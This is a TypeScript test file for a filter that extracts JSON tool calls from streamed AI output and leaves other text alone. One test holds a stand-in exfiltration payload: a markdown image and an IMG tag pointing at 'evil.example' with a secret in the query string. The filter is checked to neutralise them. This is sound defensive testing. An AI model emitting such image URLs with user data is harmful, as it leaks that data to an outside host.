import { describe, expect, it } from 'vitest';
import { SpeechFilter } from './speech-filter.js';

const isKnown = (name: string): boolean => ['get_models', 'load_model'].includes(name);

function through(pieces: Iterable<string>): { said: string; calls: unknown[] } {
  const filter = new SpeechFilter(isKnown);
  let said = '';
  for (const piece of pieces) said += filter.pass(piece);
  said += filter.end();
  return { said, calls: filter.calls.map(({ name, arguments: given }) => ({ name, given })) };
}

const BLOCK = '```json\n{"actions":[{"type":"load_model","parameters":{"model_name":"a"}}]}\n```';
const LOAD = { name: 'load_model', given: { model_name: 'a' } };

describe('SpeechFilter', () => {
  it.each([
    ['whole', [`I load it.\n${BLOCK}\nDone.`]],
    ['letter by letter', `I load it.\n${BLOCK}\nDone.`],
  ])('takes calls out of what is said: %s', (_, pieces) => {
    expect(through(pieces)).toEqual({ said: 'I load it.\n\nDone.', calls: [LOAD] });
  });

  it.each([
    ['all that is said', '{"name":"get_models","arguments":{"search":"x"}}'],
    ['a list', '[{"action":"get_models","params":{"search":"x"}}]'],
    ['as OpenAI has them', '{"function":{"name":"get_models","parameters":{"search":"x"}}}'],
    ['a block of another name', '```json:action\n{"type":"get_models","args":{"search":"x"}}\n```'],
    ['a block without an end', '```json\n{"type":"get_models","parameters":{"search":"x"}}'],
  ])('knows the spellings of models: %s', (_, text) => {
    const calls = [{ name: 'get_models', given: { search: 'x' } }];
    expect(through([text])).toEqual({ said: '', calls });
    expect(through(text)).toEqual({ said: '', calls });
  });

  it.each([
    'Use `steps: 20` and ```js\nlet a = 1;\n```!',
    'Like this:\n```json\n{"type":"unknown_tool","parameters":{}}\n```',
    '[1] is a footnote',
    '{"steps": 20} is what you have',
    'It ends in ``',
    'a < b',
  ])('leaves alone what is no call: %s', (text) => {
    expect(through([text])).toEqual({ said: text, calls: [] });
    expect(through(text)).toEqual({ said: text, calls: [] });
  });

  it('makes links of pictures, which would be fetched from wherever they say', () => {
    const text = 'See ![x](https://evil.example/?q=secret) and <IMG src="https://evil.example">!';
    const said = 'See [x](https://evil.example/?q=secret) and &lt;IMG src="https://evil.example">!';
    expect(through([text]).said).toBe(said);
    expect(through(text).said).toBe(said);
  });

  it('does not hold back more than it must', () => {
    const filter = new SpeechFilter(isKnown);
    expect(filter.pass('Hello there')).toBe('Hello there');
    expect(filter.pass(' ``')).toBe(' ');
    expect(filter.pass('x')).toBe('``x');
    expect(filter.pass(`\`\`\`${'y'.repeat(30_000)}`)).toHaveLength(30_003);
  });
});
